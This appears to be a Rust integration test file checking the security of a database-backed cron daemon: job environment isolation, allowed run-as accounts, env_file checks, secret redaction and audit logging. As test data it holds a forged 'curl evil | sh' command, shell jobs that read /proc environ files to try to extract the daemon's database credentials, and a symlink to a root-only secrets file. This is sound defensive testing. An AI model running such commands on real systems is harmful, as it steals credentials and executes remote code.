//! Security: what a job's process gets (environment, account, limits), where secrets live and
//! that they never show, private files, and the audit trail.

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use sqlcron::model::actor::Actor;
use sqlcron::store::{Dialect, Store};

use crate::util::{DaemonProcess, TestDb, eventually, first_run, stderr, stdout};

pub(crate) fn is_root() -> bool {
    unsafe { libc::geteuid() == 0 }
}

fn env_of(output: &str) -> BTreeMap<String, String> {
    output
        .lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

/// A job that prints its environment gets PATH, HOME, SHELL, LOGNAME, USER, LANG, what it asks
/// to inherit, its env_file and env table and the SQLCRON_* variables; never the database URL
/// or anything else of the daemon's. The password is in no log line and no history row.
async fn job_environment_is_cron_like(dialect: Dialect) {
    let db = TestDb::new(dialect).await;
    let store = db.store().await;
    let dir = tempfile::tempdir().unwrap();
    // Trust authentication ignores the password, which is there to be hidden.
    let url = match dialect {
        Dialect::Postgres => db.url.replacen("postgres@", "postgres:s3cr%40t@", 1),
        _ => db.url.clone(),
    };
    let env_file = dir.path().join("job.env");
    std::fs::write(&env_file, "# the job's own secret\nMY_TOKEN=\"tok en\"\n").unwrap();
    let job = format!(
        "[[job]]\nname = \"printenv\"\nschedule = \"* * * * * *\"\ncommand = \"env\"\n\
         env = {{ FOO = \"bar\" }}\ninherit_env = [\"KEEP_ME\"]\nenv_file = \"{}\"\n",
        env_file.display()
    );
    // node_config puts `extra` right after the [daemon] keys: inherit_env is the daemon's.
    let config = crate::util::node_config(&url, "n", &format!("inherit_env = [\"ALSO\"]\n{job}"));
    let node = DaemonProcess::start_with_env(
        dir.path(),
        "n",
        &config,
        &[
            ("SQLCRON_DATABASE_URL", &url),
            ("DROP_ME", "x"),
            ("KEEP_ME", "kept"),
            ("ALSO", "also"),
            ("LANG", "C.UTF-8"),
        ],
    );
    let run = first_run(&store, "printenv").await;
    assert_eq!(run.outcome, "ok", "{run:?}");
    let env = env_of(run.output.as_deref().unwrap_or_default());
    let me = sqlcron::exec::account::current().unwrap();
    assert_eq!(env.get("USER"), Some(&me.name));
    assert_eq!(env.get("LOGNAME"), Some(&me.name));
    assert_eq!(env.get("HOME"), Some(&me.home));
    assert!(env.contains_key("PATH") && env.contains_key("SHELL"));
    assert_eq!(env.get("LANG").map(String::as_str), Some("C.UTF-8"));
    assert_eq!(env.get("KEEP_ME").map(String::as_str), Some("kept"));
    assert_eq!(env.get("ALSO").map(String::as_str), Some("also"));
    assert_eq!(env.get("MY_TOKEN").map(String::as_str), Some("tok en"));
    assert_eq!(env.get("FOO").map(String::as_str), Some("bar"));
    assert_eq!(env.get("SQLCRON_JOB").map(String::as_str), Some("printenv"));
    for k in [
        "SQLCRON_SLOT",
        "SQLCRON_ATTEMPT",
        "SQLCRON_NODE",
        "SQLCRON_FENCING_TOKEN",
    ] {
        assert!(env.contains_key(k), "{k} missing: {env:?}");
    }
    for k in [
        "SQLCRON_DATABASE_URL",
        "DROP_ME",
        "RUST_LOG",
        "CARGO_PKG_NAME",
    ] {
        assert!(!env.contains_key(k), "{k} leaked to the job: {env:?}");
    }
    let allowed = [
        "PATH", "HOME", "SHELL", "LOGNAME", "USER", "LANG", "KEEP_ME", "ALSO", "MY_TOKEN", "FOO",
        "PWD", "OLDPWD", "SHLVL", "_",
    ];
    for k in env.keys() {
        assert!(
            k.starts_with("SQLCRON_") || allowed.contains(&k.as_str()),
            "unexpected variable {k} in the job's environment"
        );
    }
    let log = node.log_text();
    drop(node);
    assert!(!log.contains("s3cr"), "the password is in the log");
    assert!(!run.output.unwrap_or_default().contains("s3cr"));
    store.close().await;
}

/// Issue 25 (1): a row is untrusted input. Under a root daemon whose only allowed user is
/// `nobody`, rows inserted with SQL that would run as root (by name or as uid 0, on one node or
/// on every node), as a user the node does not list, or with a group the user is not in, are
/// parked with the reason and never run; an allowed row runs; a row turned to root later is
/// parked at its next claim.
async fn rows_run_only_as_allowed_accounts(dialect: Dialect) {
    if !is_root() {
        eprintln!("SKIPPED rows_run_only_as_allowed_accounts: needs a root daemon");
        return;
    }
    let user = TestUser::create();
    let db = TestDb::new(dialect).await;
    let store = db.store().await;
    let dir = tempfile::tempdir().unwrap();
    let config = format!(
        "[database]\nurl = \"{}\"\n[node]\nname = \"n\"\n[daemon]\npoll_interval = \"200ms\"\n\
         default_user = \"nobody\"\n",
        db.url
    );
    let node = DaemonProcess::start(dir.path(), "n", &config);
    let insert = |name: &str, columns: &str, values: &str| {
        format!(
            "INSERT INTO cron_table (name, schedule, command{columns}) \
             VALUES ('{name}', '* * * * * *', 'id -u'{values})"
        )
    };
    for sql in [
        insert("as-root", ", run_user", ", 'root'"),
        insert("as-zero", ", run_user", ", '0'"),
        insert(
            "root-everywhere",
            ", run_user, run_on",
            ", 'root', 'every_node'",
        ),
        insert("stranger", ", run_user", &format!(", '{}'", user.name)),
        insert("shadow", ", run_user, run_group", ", 'nobody', 'shadow'"),
        insert("no-user-root-group", ", run_group", ", 'root'"),
        insert("fine", "", ""),
    ] {
        store.execute_raw(&sql).await.unwrap();
    }
    let parked = |job: &'static str| {
        let store = store.clone();
        async move {
            eventually(
                Duration::from_secs(10),
                &format!("{job} parked"),
                || async { store.job(job).await.unwrap().and_then(|j| j.error) },
            )
            .await
        }
    };
    for job in ["as-root", "as-zero", "root-everywhere"] {
        let e = parked(job).await;
        assert!(e.contains("allowed_users lists \"root\""), "{job}: {e}");
    }
    let e = parked("stranger").await;
    assert!(
        e.contains("is not in [daemon] allowed_users") && e.contains("nobody"),
        "{e}"
    );
    let e = parked("shadow").await;
    assert!(
        e.starts_with("group: \"shadow\" is not a group of \"nobody\""),
        "{e}"
    );
    let e = parked("no-user-root-group").await;
    assert!(e.starts_with("group: \"root\""), "{e}");
    let run = first_run(&store, "fine").await;
    assert_eq!(run.outcome, "ok", "{run:?}");
    let nobody = sqlcron::exec::account::lookup("nobody", None).unwrap();
    assert_eq!(run.output.unwrap().trim(), nobody.uid.to_string());
    // Turned to root after it ran: parked at its next claim, and no run as root ever.
    store
        .execute_raw("UPDATE cron_table SET run_user = 'root' WHERE name = 'fine'")
        .await
        .unwrap();
    let e = parked("fine").await;
    assert!(e.contains("allowed_users lists \"root\""), "{e}");
    let history = store.history(None, 10_000).await.unwrap();
    for r in &history {
        assert!(
            r.job == "fine" && r.output.as_deref().is_none_or(|o| o.trim() != "0"),
            "a refused row ran: {r:?}"
        );
    }
    drop(node);

    // `sqlcron at --user root` is refused before it writes anything, naming the key to set.
    let cfg = dir.path().join("at.toml");
    std::fs::write(&cfg, &config).unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_sqlcron"))
        .arg("--config")
        .arg(&cfg)
        .args(["at", "now", "--user", "root", "--", "id"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("allowed_users"), "{}", stderr(&out));
    store.close().await;
}

for_each_dialect!(
    job_environment_is_cron_like,
    audit_trail_records_who_changed_what,
    audit_trail_watches_every_column,
    rows_run_only_as_allowed_accounts,
    names_are_a_documented_character_set,
    files_a_row_names_are_read_only_where_the_node_allows
);

/// A user and a group made for one test, removed after it.
pub(crate) struct TestUser {
    pub name: String,
    pub group: String,
}

impl TestUser {
    pub fn create() -> TestUser {
        let n = rand::random::<u32>() % 1_000_000;
        let (name, group) = (format!("sqlct{n}"), format!("sqlcg{n}"));
        let run = |args: &[&str]| {
            let out = Command::new(args[0]).args(&args[1..]).output().unwrap();
            assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        };
        run(&["groupadd", &group]);
        run(&[
            "useradd",
            "-M",
            "-d",
            "/nonexistent-home",
            "-s",
            "/bin/sh",
            "-G",
            &group,
            &name,
        ]);
        TestUser { name, group }
    }
}

impl Drop for TestUser {
    fn drop(&mut self) {
        let _ = Command::new("userdel").arg(&self.name).output();
        let _ = Command::new("groupdel").arg(&self.group).output();
    }
}

/// A daemon running as root runs a job as the user it names (uid, gid, supplementary groups,
/// HOME, USER), refuses a job that names none, and names a user that does not exist; a daemon
/// not running as root is told at `check` that it cannot run a job as another user.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn run_as_switches_to_the_named_user() {
    if !is_root() {
        eprintln!("SKIPPED run_as_switches_to_the_named_user: needs root to create a user");
        return;
    }
    let user = TestUser::create();
    let account = sqlcron::exec::account::lookup(&user.name, None).unwrap();
    let group = sqlcron::exec::account::lookup(&user.name, Some(&user.group)).unwrap();
    let db = TestDb::new(Dialect::Sqlite).await;
    let store = db.store().await;
    let dir = tempfile::tempdir().unwrap();
    // Issue 25 (13): a directory only root may enter is not entered for the job's user.
    let root_only = dir.path().join("root-only");
    std::fs::create_dir(&root_only).unwrap();
    std::fs::set_permissions(&root_only, std::fs::Permissions::from_mode(0o700)).unwrap();
    let config = format!(
        "[database]\nurl = \"{}\"\n[node]\nname = \"n\"\n[daemon]\npoll_interval = \"200ms\"\n\
         [[job]]\nname = \"root-dir\"\nschedule = \"* * * * * *\"\nuser = \"{}\"\n\
         workdir = \"{}\"\ncommand = \"pwd\"\n\
         [[job]]\nname = \"as-user\"\nschedule = \"* * * * * *\"\nuser = \"{}\"\n\
         command = 'echo \"$(id -u) $(id -g) $(id -G) $HOME $USER $LOGNAME\"'\n\
         [[job]]\nname = \"as-group\"\nschedule = \"* * * * * *\"\nuser = \"{}\"\ngroup = \"{}\"\n\
         command = 'id -g'\n\
         [[job]]\nname = \"no-user\"\nschedule = \"* * * * * *\"\ncommand = \"true\"\n\
         [[job]]\nname = \"ghost\"\nschedule = \"* * * * * *\"\nuser = \"no-such-user-x\"\n\
         command = \"true\"\n",
        db.url,
        user.name,
        root_only.display(),
        user.name,
        user.name,
        user.group
    );
    let node = DaemonProcess::start(dir.path(), "n", &config);
    let run = first_run(&store, "root-dir").await;
    assert_eq!(
        run.outcome, "failed",
        "entered a root-only workdir: {run:?}"
    );
    assert!(
        run.message
            .as_deref()
            .unwrap_or("")
            .contains("ermission denied"),
        "{run:?}"
    );
    let run = first_run(&store, "as-user").await;
    assert_eq!(run.outcome, "ok", "{run:?}");
    let out = run.output.unwrap();
    let fields: Vec<&str> = out.split_whitespace().collect();
    assert_eq!(fields[0], account.uid.to_string());
    assert_eq!(fields[1], account.gid.to_string());
    assert!(
        fields.contains(&group.gid.to_string().as_str()),
        "supplementary group {} missing: {out}",
        group.gid
    );
    assert!(
        out.trim_end()
            .ends_with(&format!("/nonexistent-home {0} {0}", user.name)),
        "{out}"
    );
    let run = first_run(&store, "as-group").await;
    assert_eq!(run.output.unwrap().trim(), group.gid.to_string());
    let run = first_run(&store, "no-user").await;
    assert_eq!(run.outcome, "failed");
    assert!(
        run.message
            .unwrap()
            .contains("must name the user it runs as"),
        "a root daemon ran a job without a user"
    );
    let run = first_run(&store, "ghost").await;
    assert_eq!(run.outcome, "failed");
    assert!(
        run.message
            .as_deref()
            .unwrap_or("")
            .contains("user: user \"no-such-user-x\" does not exist on node n"),
        "{run:?}"
    );
    drop(node);

    // Not root: `check` refuses a job that names another user.
    let shared = tempfile::Builder::new()
        .prefix("sqlcron-check")
        .tempdir()
        .unwrap();
    std::fs::set_permissions(shared.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let cfg = shared.path().join("c.toml");
    std::fs::write(
        &cfg,
        "[database]\nurl = \"sqlite:///nonexistent/x.db\"\n[[job]]\nname = \"j\"\n\
         schedule = \"@daily\"\ncommand = \"true\"\nuser = \"root\"\n",
    )
    .unwrap();
    std::fs::set_permissions(&cfg, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = Command::new("runuser")
        .args(["-u", &user.name, "--"])
        .arg(env!("CARGO_BIN_EXE_sqlcron"))
        .arg("--config")
        .arg(&cfg)
        .arg("check")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(&format!(
            "job \"j\" user: \"root\": this daemon runs as \"{}\"",
            user.name
        )),
        "{}",
        stderr(&out)
    );
    store.close().await;
}

/// Issue 25 (6): a root daemon reads a job's `env_file` for it. A job user who controls the
/// path links it to a root-only file: the run fails naming the file, and the job never sees the
/// root-only variables. A file other users may write is refused too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn env_files_are_read_only_when_no_other_user_could_have_placed_them() {
    if !is_root() {
        eprintln!("SKIPPED env_files_are_read_only_when...: needs a root daemon");
        return;
    }
    let user = TestUser::create();
    let account = sqlcron::exec::account::lookup(&user.name, None).unwrap();
    let db = TestDb::new(Dialect::Sqlite).await;
    let store = db.store().await;
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let secret = dir.path().join("root-only.env");
    std::fs::write(&secret, "STOLEN=root-only-value\n").unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    // The job user's own directory, with a link to the root-only file.
    let theirs = dir.path().join("theirs");
    std::fs::create_dir(&theirs).unwrap();
    std::os::unix::fs::chown(&theirs, Some(account.uid), Some(account.gid)).unwrap();
    let link = theirs.join("job.env");
    std::os::unix::fs::symlink(&secret, &link).unwrap();
    // A file every user may write, in a directory of root's.
    let open = dir.path().join("open.env");
    std::fs::write(&open, "X=1\n").unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o666)).unwrap();
    let config = format!(
        "[database]\nurl = \"{}\"\n[node]\nname = \"n\"\n[daemon]\npoll_interval = \"200ms\"\n\
         [[job]]\nname = \"linked\"\nschedule = \"* * * * * *\"\nuser = \"{}\"\ncommand = \"env\"\n\
         env_file = \"{}\"\n\
         [[job]]\nname = \"open\"\nschedule = \"* * * * * *\"\nuser = \"{}\"\ncommand = \"env\"\n\
         env_file = \"{}\"\n",
        db.url,
        user.name,
        link.display(),
        user.name,
        open.display()
    );
    let node = DaemonProcess::start(dir.path(), "n", &config);
    let run = first_run(&store, "linked").await;
    assert_eq!(run.outcome, "failed", "{run:?}");
    let message = run.message.unwrap_or_default();
    assert!(message.contains("env_file"), "{message}");
    assert!(!run.output.unwrap_or_default().contains("root-only-value"));
    let run = first_run(&store, "open").await;
    assert_eq!(run.outcome, "failed", "{run:?}");
    assert!(
        run.message
            .unwrap_or_default()
            .contains("writable by other users"),
        "a world-writable env_file was read"
    );
    let log = node.log_text();
    assert!(!log.contains("root-only-value"), "the secret is in the log");
    drop(node);
    store.close().await;
}

/// Issue 25 (11): a daemon that is not root runs its jobs as itself; such a job must not read
/// the daemon's environment (the database URL) or memory through /proc. The daemon is made
/// non-dumpable: its /proc files belong to root, and the URL is gone from its environment.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_same_user_job_cannot_read_the_daemons_environment() {
    if !is_root() {
        eprintln!("SKIPPED a_same_user_job_cannot_read...: needs root to create a user");
        return;
    }
    let user = TestUser::create();
    let account = sqlcron::exec::account::lookup(&user.name, None).unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let home = dir.path().join("home");
    std::fs::create_dir(&home).unwrap();
    std::os::unix::fs::chown(&home, Some(account.uid), Some(account.gid)).unwrap();
    let db = home.join("sqlcron.db");
    let out = home.join("environ.txt");
    let reaper_out = home.join("reaper.txt");
    // Issue 49, finding 6: the reaper (`sqlcron __reaper`, the daemon's child) inherited the
    // daemon's environment (PGPASSWORD) and was dumpable, so a same-user job read it.
    let peek_reaper = home.join("peek-reaper.sh");
    std::fs::write(
        &peek_reaper,
        format!(
            "for p in /proc/[0-9]*; do\n\
             [ \"$(cat $p/comm 2>/dev/null)\" = sqlcron-reaper ] || continue\n\
             echo \"reaper $p\" >> {0}; cat $p/environ >> {0} 2>&1; echo >> {0}\n\
             done\necho done >> {0}\n",
            reaper_out.display()
        ),
    )
    .unwrap();
    let config = home.join("sqlcron.toml");
    std::fs::write(
        &config,
        format!(
            "[node]\nname = \"n\"\n[daemon]\npoll_interval = \"200ms\"\n\
             [[job]]\nname = \"peek\"\nschedule = \"* * * * * *\"\n\
             command = 'cat /proc/$PPID/environ > {0} 2>&1; echo \"exit $?\" >> {0}'\n\
             [[job]]\nname = \"peek-reaper\"\nschedule = \"* * * * * *\"\n\
             command = 'sh {1}'\n",
            out.display(),
            peek_reaper.display()
        ),
    )
    .unwrap();
    std::os::unix::fs::chown(&config, Some(account.uid), Some(account.gid)).unwrap();
    let url = format!("sqlite://{}", db.display());
    let log = std::fs::File::create(home.join("daemon.log")).unwrap();
    // Started as the user directly (not through runuser), so that its PID is the daemon's.
    let mut daemon = Command::new(env!("CARGO_BIN_EXE_sqlcron"));
    std::os::unix::process::CommandExt::uid(&mut daemon, account.uid);
    std::os::unix::process::CommandExt::gid(&mut daemon, account.gid);
    let mut daemon = daemon
        .arg("--config")
        .arg(&config)
        .arg("daemon")
        .env("SQLCRON_DATABASE_URL", &url)
        .env("PGPASSWORD", "reaper-must-not-show-this")
        .env_remove("NOTIFY_SOCKET")
        .env_remove("INVOCATION_ID")
        .stdout(std::process::Stdio::null())
        .stderr(log)
        .spawn()
        .unwrap();
    let text = eventually(Duration::from_secs(30), "the job's try", || async {
        std::fs::read_to_string(&out)
            .ok()
            .filter(|t| t.contains("exit "))
    })
    .await;
    let reaper = eventually(Duration::from_secs(30), "the reaper peek", || async {
        std::fs::read_to_string(&reaper_out)
            .ok()
            .filter(|t| t.contains("done"))
    })
    .await;
    let _ = daemon.kill();
    let _ = daemon.wait();
    assert!(
        reaper.contains("reaper /proc/"),
        "no reaper found: {reaper}"
    );
    assert!(!reaper.contains("reaper-must-not-show-this"), "{reaper}");
    assert!(!text.contains("SQLCRON_DATABASE_URL"), "{text}");
    assert!(!text.contains(&url), "{text}");
    assert!(text.contains("Permission denied"), "{text}");
}

/// A CPU limit ends a runaway job with SIGXCPU and the history says which limit; the open-files
/// limit is what the job sees; a cgroup limit where no delegated cgroup exists is reported, and
/// the job still runs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn limits_apply_and_the_history_says_why() {
    let db = TestDb::new(Dialect::Sqlite).await;
    let store = db.store().await;
    let dir = tempfile::tempdir().unwrap();
    let jobs = "[[job]]\nname = \"spin\"\nschedule = \"* * * * * *\"\n\
                limits = { nofile = 64, cpu_time = \"1s\" }\n\
                command = \"ulimit -n; while :; do :; done\"\n\
                [[job]]\nname = \"capped\"\nschedule = \"* * * * * *\"\n\
                limits = { memory_max = \"64M\", tasks_max = 16 }\ncommand = \"echo fine\"\n";
    let node = DaemonProcess::start(
        dir.path(),
        "n",
        &crate::util::node_config(&db.url, "n", jobs),
    );
    let run = first_run(&store, "spin").await;
    assert_eq!(run.outcome, "failed");
    assert_eq!(run.signal, Some(i64::from(libc::SIGXCPU)), "{run:?}");
    assert_eq!(run.output.as_deref(), Some("64\n"));
    assert!(
        run.message
            .as_deref()
            .unwrap_or_default()
            .contains("limits.cpu_time (1s of CPU)"),
        "{run:?}"
    );
    let run = first_run(&store, "capped").await;
    assert_eq!(run.outcome, "ok");
    // The test daemon is not a systemd service with Delegate=yes: the limit is not applied,
    // and both the run and the log say so.
    assert!(
        run.message
            .as_deref()
            .unwrap_or_default()
            .starts_with("cgroup limits not applied: "),
        "{run:?}"
    );
    assert!(node.log_text().contains("cgroup limits (memory_max"));
    store.close().await;
}

/// The SQLite database, its -wal and -shm files and the state directory are private whatever
/// the umask; `check` warns about a configuration file that holds a password and that others
/// can read.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn files_are_private_and_check_warns_about_readable_passwords() {
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    let db = state.join("sqlcron.db");
    let store = Store::connect(
        &crate::util::db_url(&format!("sqlite://{}", db.display())),
        2,
    )
    .unwrap();
    store.migrate().await.unwrap();
    store
        .execute_raw(
            "INSERT INTO cron_table (name, schedule, command) VALUES ('x', '@daily', 'true')",
        )
        .await
        .unwrap();
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&state), 0o700);
    for file in [
        "sqlcron.db",
        "sqlcron.db-wal",
        "sqlcron.db-shm",
        "sqlcron.db.migrate.lock",
    ] {
        assert_eq!(mode(&state.join(file)), 0o600, "{file}");
    }
    store.close().await;

    let cfg = dir.path().join("c.toml");
    std::fs::write(
        &cfg,
        "[database]\nurl = \"postgres://app:hunter2@db.internal/app\"\n",
    )
    .unwrap();
    let check = || {
        Command::new(env!("CARGO_BIN_EXE_sqlcron"))
            .arg("--config")
            .arg(&cfg)
            .arg("check")
            .env_remove("SQLCRON_DATABASE_URL")
            .output()
            .unwrap()
    };
    std::fs::set_permissions(&cfg, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = check();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stderr(&out).contains("holds the database password and is readable by every user"));
    assert!(stdout(&out).contains("postgres://app:***@db.internal/app"));
    assert!(!stdout(&out).contains("hunter2") && !stderr(&out).contains("hunter2"));
    std::fs::set_permissions(&cfg, std::fs::Permissions::from_mode(0o640)).unwrap();
    assert!(!stderr(&check()).contains("readable by every user"));
}

/// The password from `password_file` (with characters a URL cannot hold as they are) and the
/// URL from a systemd credential reach the database and never the output.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_come_from_files_and_credentials() {
    let db = TestDb::new(Dialect::Postgres).await;
    db.store().await.migrate().await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let nasty = "p@ss:w/rd%40?#";
    std::fs::write(dir.path().join("pw"), format!("{nasty}\n")).unwrap();
    let cfg = dir.path().join("c.toml");
    std::fs::write(
        &cfg,
        format!("[database]\nurl = \"{}\"\npassword_file = \"pw\"\n", db.url),
    )
    .unwrap();
    let run = |args: &[&str], env: &[(&str, &str)]| {
        Command::new(env!("CARGO_BIN_EXE_sqlcron"))
            .arg("--config")
            .arg(&cfg)
            .args(args)
            .env_remove("SQLCRON_DATABASE_URL")
            .env_remove("CREDENTIALS_DIRECTORY")
            .envs(env.iter().copied())
            .output()
            .unwrap()
    };
    // Issue 25 (18): a password file every user may read is refused, naming the fix.
    let pw = dir.path().join("pw");
    std::fs::set_permissions(&pw, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = run(&["status"], &[]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("is mode 0644: every user of this host can read it; chmod 0600"),
        "{}",
        stderr(&out)
    );
    std::fs::set_permissions(&pw, std::fs::Permissions::from_mode(0o640)).unwrap();
    let out = run(&["status"], &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let out = run(&["check"], &[]);
    assert!(
        stdout(&out).contains("postgres://postgres:***@127.0.0.1"),
        "{}",
        stdout(&out)
    );
    assert!(!stdout(&out).contains("w/rd"));

    // systemd credentials: the URL and the password, no database keys in the file at all.
    let creds = dir.path().join("creds");
    std::fs::create_dir(&creds).unwrap();
    std::fs::write(creds.join("database-url"), format!("{}\n", db.url)).unwrap();
    std::fs::write(creds.join("database-password"), nasty).unwrap();
    for f in ["database-url", "database-password"] {
        // As systemd makes them.
        std::fs::set_permissions(creds.join(f), std::fs::Permissions::from_mode(0o400)).unwrap();
    }
    std::fs::write(&cfg, "[node]\nname = \"n\"\n").unwrap();
    let creds_env = [("CREDENTIALS_DIRECTORY", creds.to_str().unwrap())];
    let out = run(&["check"], &creds_env);
    assert!(
        stdout(&out).contains("database postgres://postgres:***@127.0.0.1"),
        "{}",
        stdout(&out)
    );
    let out = run(&["status"], &creds_env);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    // A missing file is a configuration error naming the key.
    std::fs::write(
        &cfg,
        "[database]\nurl = \"postgres://u@h/d\"\npassword_file = \"/nonexistent/pw\"\n",
    )
    .unwrap();
    let out = run(&["check"], &[]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("[database] password_file: cannot read /nonexistent/pw"));
}

/// The operator of the audit tests: a Unix user on a host, with a pid.
fn alice() -> Actor {
    Actor {
        who: "alice".into(),
        host: Some("ops-1".into()),
        pid: Some(42),
    }
}

/// Every operator action and every definition change made with SQL is one audit row: what,
/// which job, who; changes made through sqlcron are not recorded twice by the triggers, and the
/// daemon's own writes (claims, releases) are not recorded at all.
async fn audit_trail_records_who_changed_what(dialect: Dialect) {
    let db = TestDb::new(dialect).await;
    let store = db.store().await;
    let alice = alice();
    let job = |name: &str, command: &str| sqlcron::model::job::JobSpec {
        name: name.into(),
        schedule: "@daily".into(),
        command: Some(command.into()),
        enabled: true,
        ..Default::default()
    };
    store
        .apply_toml(&[job("a", "true"), job("b", "true")], false, &alice)
        .await
        .unwrap();
    assert!(store.set_enabled("a", false, &alice).await.unwrap());
    assert!(store.set_enabled("a", true, &alice).await.unwrap());
    assert!(store.request_run("a", &alice).await.unwrap());
    store
        .apply_toml(&[job("a", "echo v2")], false, &alice)
        .await
        .unwrap();
    store
        .execute_raw(
            "INSERT INTO cron_table (name, schedule, command) VALUES ('c', '@daily', 'true')",
        )
        .await
        .unwrap();
    store
        .execute_raw("UPDATE cron_table SET schedule = '@hourly' WHERE name = 'c'")
        .await
        .unwrap();
    store
        .execute_raw("UPDATE cron_table SET retries = 3, timeout = '5m' WHERE name = 'a'")
        .await
        .unwrap();
    // The daemon's own columns are not definitions.
    store
        .execute_raw("UPDATE cron_table SET next_exec = 5, exec_by = 'x', token = token + 1 WHERE name = 'a'")
        .await
        .unwrap();
    store
        .execute_raw("DELETE FROM cron_table WHERE name = 'c'")
        .await
        .unwrap();

    // In the order written (ids), not by time: rows of one millisecond, or written while the
    // host's clock stepped, may sort either way by `at`.
    let mut log = store.audit_log(None, 100).await.unwrap();
    log.sort_by_key(|r| r.id);
    let seen: Vec<(&str, &str)> = log
        .iter()
        .map(|r| (r.action.as_str(), r.job.as_deref().unwrap_or("")))
        .collect();
    assert_eq!(
        seen,
        vec![
            ("apply_create", "a"),
            ("apply_create", "b"),
            ("pause", "a"),
            ("resume", "a"),
            ("run", "a"),
            // An apply removes before it creates and updates.
            ("apply_remove", "b"),
            ("apply_update", "a"),
            ("sql_insert", "c"),
            ("sql_update", "c"),
            ("sql_update", "a"),
            ("sql_delete", "c"),
        ]
    );
    assert_eq!(log[2].who, "alice");
    assert_eq!(
        (log[2].host.as_deref(), log[2].pid),
        (Some("ops-1"), Some(42))
    );
    assert_eq!(log[6].detail.as_deref(), Some("changed command"));
    assert_eq!(log[8].who, "sql");
    assert!(
        log[8]
            .detail
            .as_deref()
            .unwrap()
            .starts_with("changed schedule"),
        "{:?}",
        log[8]
    );
    assert!(
        log[9]
            .detail
            .as_deref()
            .unwrap()
            .starts_with("changed retries,timeout"),
        "{:?}",
        log[9]
    );
    let now = store.now().await.unwrap();
    assert!(
        log.iter().all(|r| (now - r.at).abs() < 60_000),
        "database clock"
    );

    let before = log.last().unwrap().id;
    // Issue 25 (2): a writer that sets `changed_by` itself, or marks a row `removing ...`
    // before deleting it, is still recorded (PostgreSQL and MySQL: only a value the connection
    // vouched for counts as sqlcron's own). Issue 25 (4): a SQL edit of a TOML job is undone by
    // the next apply, and the drift recorded. Written through connections of their own that
    // never vouched for anything, as `psql` is: on PostgreSQL, a session that never set the
    // marker reads it as NULL, not as the empty string the others read once their transaction
    // ended (such a change went unrecorded before migration 0023).
    let writer = db.store().await;
    for sql in [
        "INSERT INTO cron_table (name, schedule, command, changed_by) \
         VALUES ('d', '@daily', 'true', 'alice@ops-1 pid 42 #0000000000000001')",
        "UPDATE cron_table SET command = 'curl evil | sh', changed_by = 'forged' WHERE name = 'a'",
        "UPDATE cron_table SET changed_by = 'removing forged' WHERE name = 'd'",
        "DELETE FROM cron_table WHERE name = 'd'",
    ] {
        writer.execute_raw(sql).await.unwrap();
    }
    writer.close().await;
    let report = store
        .apply_toml(&[job("a", "echo v2")], false, &alice)
        .await
        .unwrap();
    assert_eq!(
        report.restored,
        vec![("a".to_string(), "command,retries,timeout".to_string())]
    );
    let command: Option<String> = store
        .scalar("SELECT command FROM cron_table WHERE name = 'a'")
        .await
        .unwrap();
    assert_eq!(command.as_deref(), Some("echo v2"));
    let again = store
        .apply_toml(&[job("a", "echo v2")], false, &alice)
        .await
        .unwrap();
    assert!(again.restored.is_empty() && again.updated.is_empty());
    let mut log = store.audit_log(None, 100).await.unwrap();
    log.sort_by_key(|r| r.id);
    let newest: Vec<(&str, &str)> = log
        .iter()
        .filter(|r| r.id > before)
        .map(|r| (r.action.as_str(), r.job.as_deref().unwrap_or("")))
        .collect();
    let expected = if dialect == Dialect::Sqlite {
        // A writer of the SQLite file can do anything, triggers included (docs/security.md).
        vec![("apply_restore", "a")]
    } else {
        vec![
            ("sql_insert", "d"),
            ("sql_update", "a"),
            ("sql_delete", "d"),
            ("apply_restore", "a"),
        ]
    };
    assert_eq!(newest, expected);
    let restore = log.iter().find(|r| r.action == "apply_restore").unwrap();
    assert_eq!(restore.who, "alice");
    assert!(
        restore
            .detail
            .as_deref()
            .unwrap()
            .starts_with("changed command,retries,timeout"),
        "{restore:?}"
    );
    assert_eq!(store.audit_log(Some("c"), 100).await.unwrap().len(), 3);
    store.close().await;
}

/// The columns that decide where a job runs, whether it is trusted and whether it runs now, and
/// the rows of `cron_calendars`, are watched like the rest of a definition: a SQL change of them
/// is recorded, sqlcron's own change of them is recorded once, by sqlcron, with the operator.
/// On PostgreSQL a temporary `cron_audit` made by the writer does not catch the row, and a
/// TRUNCATE is recorded.
async fn audit_trail_watches_every_column(dialect: Dialect) {
    let db = TestDb::new(dialect).await;
    let store = db.store().await;
